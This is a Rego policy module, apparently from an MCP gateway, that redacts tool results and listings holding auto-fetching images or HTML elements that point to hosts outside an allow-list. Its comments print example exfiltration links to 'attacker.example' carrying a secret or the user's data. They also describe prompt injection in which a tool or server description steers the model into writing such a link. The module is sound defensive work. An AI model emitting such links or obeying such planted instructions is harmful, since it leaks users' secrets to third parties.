# Image links in what servers send (data.config.images):
#
#   images:
#     enabled: true
#     hosts: []   # hosts images may load from: example.com, .github.com (and subdomains), *.docs.rs
#
# A client that renders Markdown or HTML fetches an image as soon as it shows it, without a
# click: a result holding ![x](https://attacker.example/?q=SECRET) sends the secret out the
# moment it is shown, and a model talked into writing such a link does the same. Every string of
# an answer (the texts redaction scans) and of a listing (tools/list, ..., initialize: see
# lib/listings.rego) that holds an image, an auto-fetching HTML element or a style loading a URL
# is redacted whole when a URL in it leads to a host not in `hosts`: the policy can only replace
# whole strings. Texts without an image keep their links, whatever the hosts; relative
# and data: URLs fetch nothing from another host. A text with an image is judged by all its
# absolute URLs, not only the image's: Markdown lets an image's alt text nest brackets and take
# its URL from a reference defined anywhere in the text, which patterns cannot follow.
package mcp.lib.images

import rego.v1

import data.mcp.lib.listings
import data.mcp.lib.redaction
import data.mcp.lib.settings
import data.mcp.lib.urls

enabled if not settings.get(["images", "enabled"], true) == false

hosts := settings.get(["images", "hosts"], [])

# What makes a client fetch something on its own: a Markdown image (inline or by reference); an
# HTML element with a source, a link or a background (an element name alone is no marker:
# Promise<Object> is a TypeScript type); a style sheet; an element's attribute loading a URL or
# a style with url(). Code calling new URL(...) fetches nothing where it is shown. Every marker
# starts with `!` or `<`, which keeps the scan of a text without one (most prose) fast.
fetching := `!\[|<(?i:img|image|svg|video|audio|source|picture|iframe|frame|embed|object|input|link|track|script|table|td|th|body|meta)\s[^>]*(?i:src|srcset|href|data|poster|background|content)\s*=|<(?i:style)[\s>]|<[A-Za-z][^>]*\s(?i:srcset|background|poster|style)\s*=\s*["']?[^"'<>\n]*(?i:https?:|//|\\\\|url\()`

# An absolute URL as a browser reads one (WHATWG): http or https followed by any slashes or
# backslashes or none at all (https:evil.example is https://evil.example/), blanks the parser
# drops among them, or a scheme-relative // (or \\); the authority up to the path (an IPv6
# literal's brackets in it).
absolute_url := `(?:(?i:https?):[/\\\t\n\r]*|(?:^|[^A-Za-z0-9+.:-])[/\\]{2})([^/\\?#\s"'<>()]+)`

# Character references that can spell a URL a pattern does not see (&#47;&#47;evil.example).
references := `&#[0-9]|&#[xX][0-9A-Fa-f]|&(?i:sol|colon|period|bsol|lpar|rpar);`

redactions contains path if {
	enabled
	some [path, text] in redaction.texts
	is_string(text)
	fetches(text)
}

# Listings (tool, prompt and resource descriptions, a server's instructions) reach the model too:
# one telling it to answer with ![x](https://attacker.example/?q=<the user's data>) leaks as a
# result does. Most hold no image: their JSON text rules them out before any string is looked
# at, first by what every marker starts with (json.marshal writes `<` as `\u003c`, as Go does;
# a `<` as such is looked for too), then by a pattern that matches the JSON text of every string
# `fetching` matches (blanks and quotes escaped there).
redactions contains path if {
	listed_fetching
	walk(input.result, [path, value])
	is_string(value)
	fetches(value)
}

# A key cannot be redacted on its own: an object with such a key is, whole.
redactions contains path if {
	listed_fetching
	walk(input.result, [path, value])
	is_object(value)
	some key, _ in value
	is_string(key)
	fetches(key)
}

fetches(text) if {
	regex.match(fetching, text)
	leaks(text)
}

# Patterns, not `contains`: the runtime scans a long text with one pattern of a few literals
# faster than with one `contains` per literal.
listed_fetching if {
	enabled
	text := listings.text
	regex.match(`!\[|<|\\u003c`, text)
	regex.match(fetching_in_json, text)
}

fetching_in_json := `!\[|(?:<|\\u003c)(?i:img|image|svg|video|audio|source|picture|iframe|frame|embed|object|input|link|track|script|table|td|th|body|meta|style)[\s\\>]|(?i:srcset|background|poster|style)\s*=`

leaks(text) if {
	some m in regex.find_all_string_submatch_n(absolute_url, text, -1)
	not allowed(m[1])
}

leaks(text) if regex.match(references, text)

# The host of an authority: after any user information, without the port and a trailing dot,
# in lower case; a percent-encoded or empty one is not allowed.
allowed(authority) if {
	host := urls.host(regex.replace(authority, `^.*@`, ""))
	host != ""
	not contains(host, "%")
	urls.host_allowed(host, hosts)
}
